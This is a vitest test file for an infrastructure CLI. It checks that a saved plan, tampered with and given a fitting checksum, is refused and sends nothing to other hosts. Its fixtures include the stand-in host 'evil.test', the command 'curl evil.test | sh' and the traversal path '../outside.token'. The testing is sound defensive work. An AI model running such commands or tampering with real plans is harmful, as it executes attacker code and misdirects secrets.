// Row c: whoever can replace a saved plan, its checksum too, gets no other address, command or file than the
// configuration names.
import { createHash } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import canonicalize from 'canonicalize';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { Plan } from '../../src/model/plan/plan.ts';
import { openAnyKeyring } from '../../src/state/encryption/read-passphrases.ts';
import { readPlanFile, writePlanFile } from '../../src/state/plan-file.ts';
import { DayTwoWorld } from '../support/day-two.ts';

const evil = 'https://evil.test/v1';

let world: DayTwoWorld;
let origins: Set<string>;
beforeEach(async () => {
  world = await DayTwoWorld.open();
  origins = new Set();
});
afterEach(() => world.close());

const run = (argv: readonly string[], env: Record<string, string> = {}) =>
  world.run(argv, {
    env: { HOSTWRIGHT_BASE_URL: '', ...env },
    meddle: (request, pass) => {
      origins.add(new URL(request.url).origin);
      return pass();
    },
  });

const configure = (text: string) =>
  writeFile(join(world.directory, 'main.yaml'), `version: 1\n${text}`);

const service = "service: { baseUrl: 'https://sandbox/v1' }\n";
const token = (writeTo: string, name = 'ci') =>
  `tokens: { ${name}: { scopes: [compute], writeTo: ${writeTo} } }\n`;

/** Rewrites the text of the saved plan, and makes a checksum that fits. */
async function tamper(rewrite: (text: string) => string): Promise<void> {
  const path = join(world.directory, 'saved.plan');
  const { checksum, ...saved } = JSON.parse(await readFile(path, 'utf8')) as { checksum: string };
  const changed = JSON.parse(rewrite(JSON.stringify(saved))) as object;
  const fitting = createHash('sha256')
    .update(canonicalize(changed) ?? '')
    .digest('hex');
  expect(fitting).not.toBe(checksum);
  await writeFile(path, JSON.stringify({ checksum: fitting, ...changed }));
}

async function plan(): Promise<void> {
  expect(await run(['plan', '--out', 'saved.plan'])).toMatchObject({ code: 0 });
  origins.clear();
}

/** Nothing was sent at all, but to the own service, and nothing was changed there. */
async function expectRefused(code: string, env?: Record<string, string>): Promise<void> {
  const applied = await run(['apply', 'saved.plan'], env);
  expect(applied.stderr).toContain(`[${code}]`);
  expect(applied).toMatchObject({ code: 1, writes: [] });
  expect([...origins]).toEqual([]);
}

test('a plan that is not encrypted takes no place of one that is', async () => {
  await configure(`${service}projects: { shop: {} }\nstate: { encryption: { key: passphrase } }\n`);
  const env = { HOSTWRIGHT_STATE_PASSPHRASE: 'correct horse battery' };
  const first = await run(['apply', '--auto-approve', '--allow-plain-state'], env);
  expect(first).toMatchObject({ code: 0 });
  expect(await run(['plan', '--out', 'saved.plan'], env)).toMatchObject({ code: 0 });
  const path = join(world.directory, 'saved.plan');
  const keys = () => openAnyKeyring({ env, execute: () => Promise.reject(new Error('none')) });
  const { isEncrypted, ...saved } = await readPlanFile(path, keys);
  expect(isEncrypted).toBe(true);
  await writePlanFile(path, saved);
  const refused = await run(['apply', 'saved.plan'], env);
  expect(refused.stderr).toContain('[plan-not-encrypted]');
  expect(refused).toMatchObject({ code: 1, writes: [] });
  const allowed = await run(['apply', 'saved.plan', '--allow-plain-state'], env);
  expect(allowed).toMatchObject({ code: 0 });
});

describe('attack c: a saved plan with a checksum that fits', () => {
  test('names no other service', async () => {
    await configure(`${service}projects: { shop: {} }\n`);
    await plan();
    const source = { file: 'main.yaml', line: 1, column: 1, endLine: 1, endColumn: 1 };
    const connection = { kind: 'remote', baseUrl: evil, source };
    await tamper((text) =>
      text
        .replaceAll('https://sandbox/v1', evil)
        .replace(/^\{/, `{"connection":${JSON.stringify(connection)},`),
    );
    await expectRefused('other-service');
  });

  test('names none through a variable that the address is made of', async () => {
    await configure(
      'variables: { host: { default: sandbox } }\nservice: { baseUrl: "https://${var.host}/v1" }\nprojects: { shop: {} }\n',
    );
    await plan();
    await tamper((text) =>
      text.replaceAll('https://sandbox/v1', evil).replace('"host":"sandbox"', '"host":"evil.test"'),
    );
    await expectRefused('other-service');
  });

  test('is applied to no other service that the environment names', async () => {
    await configure(`${service}projects: { shop: {} }\n`);
    await plan();
    await expectRefused('other-service', { HOSTWRIGHT_BASE_URL: evil });
    // Nor with leave: it says what would change at the first one.
    const allowed = { HOSTWRIGHT_BASE_URL: evil, HOSTWRIGHT_ALLOW_OTHER_SERVICE: '1' };
    await expectRefused('other-service', allowed);
  });

  test.each([
    ['command', '{ file: ci.token }', '{"file":"ci.token"}', '{"command":"curl evil.test | sh"}'],
    ['file', '{ file: ci.token }', '"ci.token"', '"../outside.token"'],
  ])('names no other %s', async (_, written, from, to) => {
    await configure(`${service}${token(written)}`);
    await plan();
    await tamper((text) => text.replaceAll(from, to));
    await expectRefused('stale-plan');
  });

  test('names no other file through a variable', async () => {
    const variables = 'variables: { path: { default: ci.token } }\n';
    await configure(`${variables}${service}${token('{ file: "${var.path}" }')}`);
    await plan();
    await tamper((text) => text.replaceAll('ci.token', '../outside.token'));
    await expectRefused('stale-plan');
  });

  test('names none in an expression that is worked out on apply', async () => {
    await configure(`${service}${token('{ file: ci.token }')}`);
    await plan();
    const late = { writeTo: { kind: 'value', value: { file: '../outside.token' } } };
    await tamper((text) =>
      text.replace('"kind":"accessToken"', `$&,"deferred":${JSON.stringify(late)}`),
    );
    await expectRefused('stale-plan');
  });

  test('writes nothing for a resource that the configuration does not have', async () => {
    await configure(`${service}${token('{ file: ci.token }')}`);
    await plan();
    await configure(`${service}projects: { shop: {} }\n`);
    await expectRefused('stale-plan');
  });

  test.each([
    [
      'sends no other command',
      'other commands would be sent',
      ({ tasks }: Plan) => ({ tasks: tasks.map((task) => ({ ...task, commands: [] })) }),
    ],
    [
      'sends no command more',
      'other commands would be sent',
      ({ tasks: [first, ...others] }: Plan) => ({
        tasks: [
          {
            ...first,
            commands: [...(first?.commands ?? []), { kind: 'deleteToken', token: { id: 'tok-1' } }],
          },
          ...others,
        ],
      }),
    ],
    [
      'resolves no other expression',
      'its deferred values would be resolved otherwise',
      ({ deferred = [] }: Plan) => ({
        deferred: deferred.map((one) => ({
          ...one,
          desired: { ...one.desired, deferred: { name: { kind: 'value', value: 'evil' } } },
        })),
      }),
    ],
  ])('%s', async (_, line, rewrite) => {
    await configure(
      `${service}projects: { new: { networks: { lan: , late: { name: 'of-\${projects.new.networks.lan.cidr}' } } } }\n`,
    );
    expect(await run(['plan', '--out', 'saved.plan'])).toMatchObject({ code: 0 });
    await tamper((text) => {
      const saved = JSON.parse(text) as { readonly plan: Plan };
      return JSON.stringify({ ...saved, plan: { ...saved.plan, ...rewrite(saved.plan) } });
    });
    const applied = await run(['apply', 'saved.plan']);
    expect(applied.stderr).toContain('[stale-plan]');
    expect(applied.stderr).toContain(line);
    expect(applied).toMatchObject({ code: 1, writes: [] });
  });

  test('is applied as it is where none of that differs', async () => {
    await configure(`${service}${token('{ file: ci.token }')}`);
    await plan();
    expect(await run(['apply', 'saved.plan'])).toMatchObject({ code: 0 });
    expect(await readFile(join(world.directory, 'ci.token'), 'utf8')).toMatch(/^hw_/);
  });
});
